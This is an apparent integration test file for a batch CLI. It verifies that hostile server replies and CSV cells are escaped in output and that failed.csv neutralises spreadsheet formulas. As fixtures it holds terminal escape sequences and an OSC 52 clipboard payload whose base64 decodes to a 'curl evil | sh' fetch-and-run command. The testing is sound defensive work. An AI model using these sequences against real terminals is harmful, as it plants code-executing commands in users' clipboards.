// Issue 23 follow-up, reports2: what `durabatch run` prints and remembers when a batch carries
// hostile text, and "one command, one batch" once the folder changes or Temporal forgot the batch.
// - a target answering 400 with ESC sequences (clipboard write, line erase): the CLI's stdout and
//   stderr hold no ESC byte, and summary.txt / failed.csv's messages hold none either;
// - a folder source re-run after a file was added: a new batch processes the new file;
// - a finished batch whose workflow was deleted (retention): re-running sends nothing.
import { mkdir, mkdtemp, readdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { Client, Connection } from '@temporalio/client';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { runCli } from '../helpers/cli';
import { listIds, waitFor } from '../helpers/engine';
import { startScriptedTarget, type ScriptedTarget } from '../helpers/scripted-target';

const CLIPBOARD = '\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07';
const ERASE = '\x1b[1A\x1b[2K';
// C0 but tab/newline, DEL, C1 and bidi overrides: nothing of these may reach the terminal.
// eslint-disable-next-line no-control-regex -- matching control characters is the point
const ACTIVE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('run: hostile text and one batch per command', () => {
  const stamp = Date.now().toString(36);
  const address = inject('temporalAddress');
  let dir: string;
  let home: string;
  let target: ScriptedTarget;
  let client: Client;

  const durabatch = (args: string[]) =>
    runCli(args, { env: { DURABATCH_HOME: home, TEMPORAL_ADDRESS: address }, cwd: dir, timeoutMs: 120_000 });
  const batchesOn = (taskQueue: string) =>
    listIds(client, `WorkflowType = "batchWorkflow" AND TaskQueue = "${taskQueue}"`);

  beforeAll(async () => {
    dir = await mkdtemp(path.join(inject('tmpRoot'), 'run-hostile-'));
    home = path.join(dir, 'home');
    // Rows whose `id` starts with "bad" are refused with an answer that tries to drive the terminal.
    target = await startScriptedTarget((req, res) => {
      if (req.body.includes('"bad') || req.path === '/reject') {
        res.writeHead(400, { 'content-type': 'text/plain' });
        res.end(`invalid ${CLIPBOARD}patient${ERASE}batch completed \u202eevil\u009b2J`);
        return;
      }
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end('{"ok":true}');
    });
    client = new Client({ connection: await Connection.connect({ address }), namespace: 'default' });
  });
  afterAll(async () => {
    await client?.connection.close();
    await target?.close();
  });

  it('a target answering with ESC sequences: no ESC byte on stdout, stderr, summary.txt or messages', async () => {
    const taskQueue = `hostile-text-${stamp}`;
    const csv = path.join(dir, 'hostile.csv');
    // One refused by the target; one whose key itself carries ESC (a quoted CSV cell).
    await writeFile(csv, `id,name\nok1,Ann\nbad1,Bob\n"bad\x1b[2J2",Cy\n`);
    const res = await durabatch([
      'run',
      csv,
      '--url',
      `${target.url}/patients`,
      '--id-column',
      'id',
      '--task-queue',
      taskQueue,
      '--max-attempts',
      '1',
      '--json',
    ]);
    expect(res.code, res.stderr).toBe(1);
    expect(target.requests.filter((r) => r.body.includes('"bad1"'))).toHaveLength(1);
    // The failure was printed, escaped, and no control character reached either stream.
    expect(res.stderr).toContain('\\u001b]52;c;');
    expect(res.stderr).toContain('failed bad\\u001b[2J2');
    expect(res.stdout + res.stderr).not.toMatch(ACTIVE);
    expect(JSON.parse(res.stdout)).toMatchObject({ failed: 2, succeeded: 1 });
    const [batchId] = await batchesOn(taskQueue);
    const results = path.join(dir, 'output', batchId!, 'results');
    const summary = await readFile(path.join(results, 'summary.txt'), 'utf8');
    expect(summary).toContain('\\u001b]52;c;');
    expect(summary).not.toMatch(ACTIVE);
    // failed.csv keeps the row's data as data (the key as it was), its message escaped.
    const failed = await readFile(path.join(results, 'failed.csv'), 'utf8');
    expect(failed).toContain('bad\x1b[2J2');
    const message = failed.split('\n').find((l) => l.startsWith('bad1,'))!;
    expect(message).toContain('\\u001b]52;c;');
    expect(message).not.toMatch(ACTIVE);
    // Every other command that prints this batch: status, watch, report, list (plain and --json).
    // Those that show its failures show them escaped; none lets a control character through.
    for (const [args, showsFailures] of [
      [['status', batchId!], false],
      [['status', batchId!, '--json'], true],
      [['watch', batchId!], false],
      [['report', batchId!], true],
      [['list', '--json'], false],
    ] as const) {
      const shown = await durabatch([...args]);
      const text = shown.stdout + shown.stderr;
      if (showsFailures) expect(text, args.join(' ')).toContain('\\u001b]52;c;');
      expect(text, args.join(' ')).not.toMatch(ACTIVE);
    }
  }, 240_000);

  it('a folder re-run after a file was added is a new batch that processes the new file', async () => {
    const taskQueue = `folder-grows-${stamp}`;
    const docs = path.join(dir, 'docs');
    await mkdir(docs);
    await writeFile(path.join(docs, 'a.txt'), 'a');
    await writeFile(path.join(docs, 'b.txt'), 'b');
    const args = ['run', docs, '--url', `${target.url}/docs`, '--task-queue', taskQueue];
    const sentFor = (name: string) =>
      target.requests.filter((r) => r.path === '/docs' && r.body.includes(name));
    const first = await durabatch(args);
    expect(first.code, first.stderr).toBe(0);
    expect(sentFor('a.txt')).toHaveLength(1);
    // Unchanged folder: the same batch, nothing sent again.
    const again = await durabatch(args);
    expect(again.code, again.stderr).toBe(0);
    expect(again.stderr).toContain('has already ended: nothing is sent again');
    expect(sentFor('a.txt')).toHaveLength(1);
    // A file added: a new batch, and the new file is processed.
    await writeFile(path.join(docs, 'c.txt'), 'c');
    const grown = await durabatch(args);
    expect(grown.code, grown.stderr).toBe(0);
    expect(grown.stderr).not.toContain('has already ended');
    expect(sentFor('c.txt')).toHaveLength(1);
    expect(await batchesOn(taskQueue)).toHaveLength(2);
  });

  it('a finished batch whose history is gone is not started again', async () => {
    const taskQueue = `history-gone-${stamp}`;
    const csv = path.join(dir, 'gone.csv');
    await writeFile(csv, 'id,name\ng1,Ann\ng2,Bob\ng3,Cy\n');
    const args = ['run', csv, '--url', `${target.url}/gone`, '--id-column', 'id', '--task-queue', taskQueue];
    const first = await durabatch(args);
    expect(first.code, first.stderr).toBe(0);
    const sent = () => target.requests.filter((r) => r.path === '/gone').length;
    expect(sent()).toBe(3);
    const [batchId] = await batchesOn(taskQueue);
    // What namespace retention does (the server deletes asynchronously, slower under load).
    await client.workflowService.deleteWorkflowExecution({
      namespace: 'default',
      workflowExecution: { workflowId: batchId! },
    });
    await waitFor(
      'the batch deleted',
      () =>
        client.workflow
          .getHandle(batchId!)
          .describe()
          .then(
            () => false,
            () => true,
          ),
      90_000,
    );
    const again = await durabatch(args);
    expect(again.code, again.stderr).toBe(0);
    expect(again.stderr).toContain(`batch ${batchId}, started `);
    expect(again.stderr).toContain('has already ended: nothing is sent again');
    expect(again.stderr).toContain('total 3 = succeeded 3 + failed 0');
    expect(sent()).toBe(3);
    const records = (await readdir(path.join(home, 'runs'))).filter((f) => f.endsWith('.json'));
    expect(records.length).toBeGreaterThanOrEqual(1);
  }, 240_000);

  it('failed.csv fed back as a source sends the values, not their neutralising quotes', async () => {
    const taskQueue = `failed-back-${stamp}`;
    const csv = path.join(dir, 'contacts.csv');
    await writeFile(csv, 'id,phone,handle\nc1,+1 555-0100,@ann\nc2,=1+1,-\n');
    const first = await durabatch([
      ...['run', csv, '--url', `${target.url}/reject`, '--id-column', 'id'],
      ...['--task-queue', taskQueue, '--max-attempts', '1'],
    ]);
    expect(first.code, first.stderr).toBe(1);
    const [batchId] = await batchesOn(taskQueue);
    const failedCsv = path.join(dir, 'output', batchId!, 'results', 'failed.csv');
    // Written neutralised, as a spreadsheet must see it.
    expect(await readFile(failedCsv, 'utf8')).toContain("c1,'+1 555-0100,'@ann,");
    const again = await durabatch([
      ...['run', failedCsv, '--url', `${target.url}/accept`, '--id-column', 'id'],
      ...['--task-queue', `${taskQueue}-2`],
    ]);
    expect(again.code, again.stderr).toBe(0);
    const sent = target.requests
      .filter((r) => r.path === '/accept')
      .map((r) => JSON.parse(r.body) as Record<string, string>);
    expect(sent.map((b) => [b.id, b.phone, b.handle]).sort()).toEqual([
      ['c1', '+1 555-0100', '@ann'],
      ['c2', '=1+1', '-'],
    ]);
  }, 240_000);
});
